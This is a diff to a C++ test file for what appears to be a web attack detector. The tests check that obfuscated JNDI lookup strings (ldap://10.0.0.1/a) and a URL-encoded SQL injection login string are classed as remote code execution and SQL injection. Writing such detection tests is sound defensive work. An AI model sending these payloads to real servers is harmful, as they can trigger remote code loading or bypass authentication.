@@ -400,7 +400,18 @@ TEST_CASE(
     for (int i = 0; i < 5000; ++i) {
         nested += "}";
     }
-    CHECK_FALSE(matcher.find("/?a=" + nested, "", "").has_value());
+    // Nesting past the bound is no ordinary request: taken for the attack it hides.
+    CHECK(matcher.find("/?a=" + nested, "", "")->family == "remote code execution");
+    std::string hidden = "j";
+    for (int i = 0; i < 17; ++i) {
+        hidden = "${::-" + hidden + "}";
+    }
+    CHECK(matcher.find("/?a=${" + hidden + "ndi:ldap://10.0.0.1/a}", "", "")->family ==
+          "remote code execution");
+    CHECK(matcher.jndi_lookup("X-Api: ${" + hidden + "ndi:ldap://10.0.0.1/a}"));
+    CHECK_FALSE(matcher.find("/?a=${x}${y}${z}", "", "").has_value());
+    CHECK(matcher.find("/login?user=admin%22%20or%20%221%22%3D%221", "", "")->family ==
+          "sql injection");
     // Obfuscation nests a few levels: still resolved.
     CHECK(
         matcher.find("/?a=${${${::-j}${::-n}${lower:${upper:d}}${::-i}:ldap://10.0.0.1/a}", "", "")
